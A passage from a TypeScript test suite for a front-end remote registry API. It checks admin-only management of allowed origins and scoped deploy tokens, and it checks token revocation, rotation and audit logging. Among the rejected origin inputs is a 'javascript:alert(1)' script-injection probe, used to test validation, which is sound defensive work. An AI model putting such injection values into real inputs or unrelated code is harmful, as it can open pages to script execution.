      // Recorded directly, as a release from before these checks was: no hashes, another origin.
      await deployRemote(
        t.database.db,
        { name: 'ej', version: '24.0.0', manifest: `${elsewhere}/ej/24.0.0/mf-manifest.json`, descriptor: ejRelease('24.0.0').descriptor, deployedBy: 'old' },
        'old token',
      );
      expect((await registry()).find((r) => r.name === 'ej')).toBeUndefined();
      // Nor is it a rollback's target, nor can it come back by one.
      expect((await write('/api/registry/ej/rollback/', { by: 'ana' })).json()).toEqual({ name: 'ej', from: '24.0.0', to: '23.0.0' });
      expect((await registry()).find((r) => r.name === 'ej')?.version).toBe('23.0.0');
    });
  });

  describe('allowed origins', () => {
    let adminAuth: string;
    beforeAll(async () => {
      adminAuth = `JWT ${(await login(t.app, admin)).access}`;
    });
    const origins = (auth = adminAuth) => t.app.inject({ method: 'GET', url: '/api/registry/origins/', headers: { authorization: auth } });
    const allow = (payload: unknown, auth = adminAuth) =>
      t.app.inject({ method: 'POST', url: '/api/registry/origins/', headers: { authorization: auth }, payload: payload as object });
    const disallow = (id: number | string, auth = adminAuth) =>
      t.app.inject({ method: 'DELETE', url: `/api/registry/origins/${id}/`, headers: { authorization: auth } });

    it('an admin allows a remote another origin: a release there deploys and is served, and stops being served once it is removed', async () => {
      const filesEntry = (version: string) => ({ ...release(version, { name: 'files', paths: ['files'], nav: [], screens: {} }) });
      const fromElsewhere = { ...filesEntry('40.0.0'), manifest: `${elsewhere}/files/40.0.0/mf-manifest.json` };
      expect((await write('/api/registry/files/releases/', fromElsewhere)).statusCode).toBe(400);

      const added = await allow({ remote: 'files', origin: `${elsewhere}/` });
      expect(added.statusCode).toBe(201);
      expect(added.json()).toMatchObject({ remote: 'files', origin: elsewhere, configured: false, created_by: admin.email });
      const listed = (await origins()).json() as { id: number | null; remote: string; origin: string; configured: boolean }[];
      expect(listed.filter((o) => o.remote === 'files').map((o) => [o.origin, o.configured, o.id === null])).toEqual([
        [origin, true, true],
        [elsewhere, false, false],
      ]);

      expect((await write('/api/registry/files/releases/', fromElsewhere)).statusCode).toBe(201);
      expect((await registry()).find((r) => r.name === 'files')).toMatchObject({ version: '40.0.0', entry: `${elsewhere}/files/40.0.0/remoteEntry.js` });

      // Removed: the release there is no longer served (nor any other of the remote until one is
      // deployed from an allowed origin), and a deploy from there is refused again.
      expect((await disallow(added.json().id)).statusCode).toBe(204);
      expect((await registry()).find((r) => r.name === 'files')).toBeUndefined();
      expect((await write('/api/registry/files/releases/', { ...fromElsewhere, version: '40.0.1' })).statusCode).toBe(400);
      expect((await write('/api/registry/files/releases/', filesEntry('40.0.2'))).statusCode).toBe(201);
      expect((await registry()).find((r) => r.name === 'files')?.version).toBe('40.0.2');

      const audits = (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter((r) => r.entity === 'remote_origin');
      expect(audits.map((r) => [r.action, r.entityId, r.detail, r.userId !== null])).toEqual([
        ['allow', 'files', elsewhere, true],
        ['disallow', 'files', elsewhere, true],
      ]);
    });

    it('only admins list, allow and remove origins; bad input is a 400 and changes nothing', async () => {
      const before = (await origins()).json();
      const operatorAuth = `JWT ${(await login(t.app, operator)).access}`;
      expect((await origins(operatorAuth)).statusCode).toBe(403);
      expect((await allow({ remote: 'files', origin: 'https://cdn.example' }, operatorAuth)).statusCode).toBe(403);
      expect((await disallow(1, operatorAuth)).statusCode).toBe(403);
      expect((await origins(`Bearer ${token}`)).statusCode).toBe(401);
      for (const [payload, detail] of [
        [{ remote: 'billing', origin: 'https://cdn.example' }, /'billing' is not a remote/],
        [{ remote: 'Files', origin: 'https://cdn.example' }, /remote/],
        [{ remote: 'files', origin: 'https://cdn.example/files/' }, /not an http\(s\) origin: the scheme, host and port only/],
        [{ remote: 'files', origin: 'javascript:alert(1)' }, /not an http\(s\) origin/],
        [{ remote: 'files', origin: 'ftp://cdn.example' }, /not an http\(s\) origin/],
        [{ remote: 'files', origin: 'https://user:pw@cdn.example' }, /not an http\(s\) origin/],
        [{ remote: 'files', origin: '' }, /origin/],
        [{ remote: 'files' }, /origin/],
        [{ remote: 'files', origin: 'https://cdn.example', id: 3 }, /unknown field 'id'/],
      ] as const) {
        const answer = await allow(payload);
        expect(answer.statusCode, JSON.stringify(payload)).toBe(400);
        expect(answer.json().detail).toMatch(detail);
      }
      const configured = await allow({ remote: 'files', origin });
      expect([configured.statusCode, configured.json().detail]).toEqual([409, `${origin} is allowed for files already (REMOTE_ORIGINS).`]);
      const once = await allow({ remote: 'files', origin: 'https://cdn.example' });
      expect(once.statusCode).toBe(201);
      expect((await allow({ remote: 'files', origin: 'HTTPS://CDN.example:443' })).statusCode).toBe(409);
      expect((await disallow(once.json().id)).statusCode).toBe(204);
      expect((await disallow(once.json().id)).statusCode).toBe(404);
      expect((await disallow('abc')).statusCode).toBe(400);
      expect((await origins()).json()).toEqual(before);
    });
  });

  describe('deploy tokens', () => {
    let adminAuth: string;
    let operatorAuth: string;
    beforeAll(async () => {
      adminAuth = `JWT ${(await login(t.app, admin)).access}`;
      operatorAuth = `JWT ${(await login(t.app, operator)).access}`;
    });
    const tokens = (auth = adminAuth) => t.app.inject({ method: 'GET', url: '/api/registry/tokens/', headers: { authorization: auth } });
    const create = (payload: unknown, auth = adminAuth) =>
      t.app.inject({ method: 'POST', url: '/api/registry/tokens/', headers: { authorization: auth }, payload: payload as object });
    const revoke = (id: number | string, auth = adminAuth) =>
      t.app.inject({ method: 'DELETE', url: `/api/registry/tokens/${id}/`, headers: { authorization: auth } });
    const tokenAudit = async () =>
      (await t.database.db.select().from(auditLog).orderBy(auditLog.id))
        .filter((r) => r.entity === 'deploy_token')
        .map((r) => [r.action, r.entityId, r.detail]);

    it('a team token is shown once, deploys and rolls back its own remote, and is refused on another', async () => {
      const made = await create({ remote: 'email', name: 'email team' });
      expect(made.statusCode).toBe(201);
      const { token, ...listed } = made.json();
      expect(token).toMatch(/^ejd_[A-Za-z0-9_-]{43}$/);
      expect(listed).toMatchObject({ name: 'email team', remote: 'email', configured: false, created_by: admin.email });

      // Listed with the configured all-remotes one, never in clear, nor its hash.
      const list = await tokens();
      expect(list.statusCode).toBe(200);
      expect(list.json().map((r: { name: string; remote: string | null }) => [r.name, r.remote])).toEqual([
        ['REMOTE_DEPLOY_TOKEN', null],
        ['email team', 'email'],
      ]);
      expect(list.body).not.toContain(token);
      expect(list.body).not.toContain(token.slice(4, 20));
      const [stored] = await t.database.db
        .select()
        .from(deployTokens)
        .where(sql`${deployTokens.name} = 'email team'`);
      expect(stored!.tokenHash.toString('hex')).toBe(createHash('sha256').update(token).digest('hex'));

      const emailRelease = release('1.0.0', { name: 'email', role: undefined, paths: ['email'], nav: [], screens: {} });
      const deployed = await write('/api/registry/email/releases/', emailRelease, `Bearer ${token}`);
      expect(deployed.statusCode).toBe(201);
      // The finding: the team's token put a manifest on another origin, and every console ran it.
      const offsite = await write(
        '/api/registry/email/releases/',
        { ...emailRelease, version: '1.0.1', manifest: `${elsewhere}/email/1.0.1/mf-manifest.json` },
        `Bearer ${token}`,
      );
      expect(offsite.statusCode).toBe(400);
      expect(offsite.json().detail).toMatch(/not one of the remote's allowed origins/);
      // Nor may it claim the admin remote's paths.
      const claim = await write(
        '/api/registry/email/releases/',
        release('1.0.2', { name: 'email', paths: ['email', 'bank-msp-list'], nav: [], screens: {} }),
        `Bearer ${token}`,
      );
      expect([claim.statusCode, claim.json().detail]).toEqual([409, "email 1.0.2 is refused: /bank-msp-list belongs to the remote 'admin'."]);
      const before = await registry();
      const onAdmin = await write('/api/registry/admin/releases/', release('7.0.0'), `Bearer ${token}`);
      expect(onAdmin.statusCode).toBe(403);
      expect(onAdmin.json().detail).toBe("The deploy token 'email team' deploys email only, not admin.");
      expect((await write('/api/registry/admin/rollback/', { by: 'x' }, `Bearer ${token}`)).statusCode).toBe(403);
      expect((await t.app.inject({ method: 'GET', url: '/api/registry/releases/?name=admin', headers: { authorization: `Bearer ${token}` } })).statusCode).toBe(
        403,
      );
      const own = await t.app.inject({ method: 'GET', url: '/api/registry/releases/', headers: { authorization: `Bearer ${token}` } });
      expect(own.json().map((r: { name: string }) => r.name)).toEqual(['email']);
      expect(await registry()).toEqual(before);

      const audits = (await t.database.db.select().from(auditLog).orderBy(auditLog.id)).filter((r) => r.entity === 'remote' && r.entityId === 'email');
      expect(audits.map((r) => r.detail)).toEqual([`none -> 1.0.0 by release-bot with the token email team; ${pinned('email', '1.0.0')}`]);
    });

    it('revoking a token refuses it at once; revoking the configured one ends its deploys too', async () => {
      const { id, token } = (await create({ remote: 'files', name: 'files team' })).json();
      expect((await revoke(id)).statusCode).toBe(204);
      const refused = await write('/api/registry/files/rollback/', { by: 'x' }, `Bearer ${token}`);
      expect(refused.statusCode).toBe(401);
      expect((await revoke(id)).statusCode).toBe(404);
      expect((await tokens()).json().map((r: { name: string }) => r.name)).not.toContain('files team');

      const configured = (await tokens()).json().find((r: { configured: boolean }) => r.configured);
      expect((await revoke(configured.id)).statusCode).toBe(204);
      expect((await write('/api/registry/admin/rollback/', { by: 'x' })).statusCode).toBe(401);
      expect(await tokenAudit()).toEqual(
        expect.arrayContaining([
          ['create', 'files team', 'remote files'],
          ['revoke', 'files team', 'remote files'],
          ['revoke', 'REMOTE_DEPLOY_TOKEN', 'remote every remote'],
        ]),
      );
    });

    it('a configured token changed in the configuration is retired; the new one is recorded', async () => {
      await recordConfiguredDeployToken(t.database.db, 'rotated-token-0123456789');
      expect((await write('/api/registry/admin/rollback/', { by: 'x' }, 'Bearer rotated-token-0123456789')).statusCode).not.toBe(401);
      await recordConfiguredDeployToken(t.database.db, 'rotated-again-0123456789');
      expect((await write('/api/registry/admin/rollback/', { by: 'x' }, 'Bearer rotated-token-0123456789')).statusCode).toBe(401);
      expect((await tokens()).json().filter((r: { configured: boolean }) => r.configured)).toHaveLength(1);
      expect(await tokenAudit()).toContainEqual(['revoke', 'REMOTE_DEPLOY_TOKEN', 'no longer the configured REMOTE_DEPLOY_TOKEN']);
    });

    it('only admins list, create and revoke tokens; bad input is a 400 and changes nothing', async () => {
      const before = (await tokens()).json();
      expect((await tokens(operatorAuth)).statusCode).toBe(403);
      expect((await create({ remote: 'email', name: 'mine' }, operatorAuth)).statusCode).toBe(403);
      expect((await revoke(before[0].id, operatorAuth)).statusCode).toBe(403);
      expect((await tokens('')).statusCode).toBe(401);
      // A deploy token is not a sign-in.
      expect((await tokens(`Bearer ${(await create({ remote: 'ej', name: 'ej team' })).json().token}`)).statusCode).toBe(401);
      const afterEj = (await tokens()).json();
      const bad: [string, unknown, RegExp][] = [
        ['no remote', { name: 'x' }, /remote/],
        ['a bad remote', { remote: 'Admin x', name: 'x' }, /remote/],
        ['an empty name', { remote: 'email', name: '   ' }, /name/],
        ['a name with a newline', { remote: 'email', name: 'a\nb' }, /name/],
        ['a long name', { remote: 'email', name: 'x'.repeat(61) }, /name/],
        ["the configured token's name", { remote: 'email', name: 'REMOTE_DEPLOY_TOKEN' }, /configured/],
        ['an extra field', { remote: 'email', name: 'x', token: 'chosen' }, /unknown field 'token'/],
      ];
      for (const [what, payload, detail] of bad) {
        const response = await create(payload);
        expect(response.statusCode, what).toBe(400);
        expect(response.json().detail, what).toMatch(detail);
      }
      const twice = await create({ remote: 'files', name: 'ej team' });
      expect(twice.statusCode).toBe(409);
      expect((await revoke('abc')).statusCode).toBe(400);
      expect((await revoke(999999)).statusCode).toBe(404);
      expect((await tokens()).json()).toEqual(afterEj);
    });

    it('holds the limit under parallel creates', async () => {
      const live = (await tokens()).json().length;
      const answers = await Promise.all(Array.from({ length: 110 - live }, (_, i) => create({ remote: 'email', name: `parallel ${i}` })));
      const codes = answers.map((a) => a.statusCode);
      expect(codes.filter((c) => c === 201)).toHaveLength(100 - live);
      expect(codes.filter((c) => c === 400)).toHaveLength(10);
      expect((await tokens()).json()).toHaveLength(100);
    });
  });

  it('without a token configured, the registry is read-only', async () => {
    const closed = await createTestApp(backend);
    try {
      const response = await closed.app.inject({
        method: 'POST',
        url: '/api/registry/admin/rollback/',
        headers: { authorization: 'Bearer x' },
        payload: { by: 'x' },
      });
      expect(response.statusCode).toBe(403);
      expect(response.json().detail).toMatch(/REMOTE_DEPLOY_TOKEN/);
      expect((await closed.app.inject({ method: 'GET', url: '/api/registry/' })).statusCode).toBe(200);
    } finally {
      await closed.close();
    }
  });
});
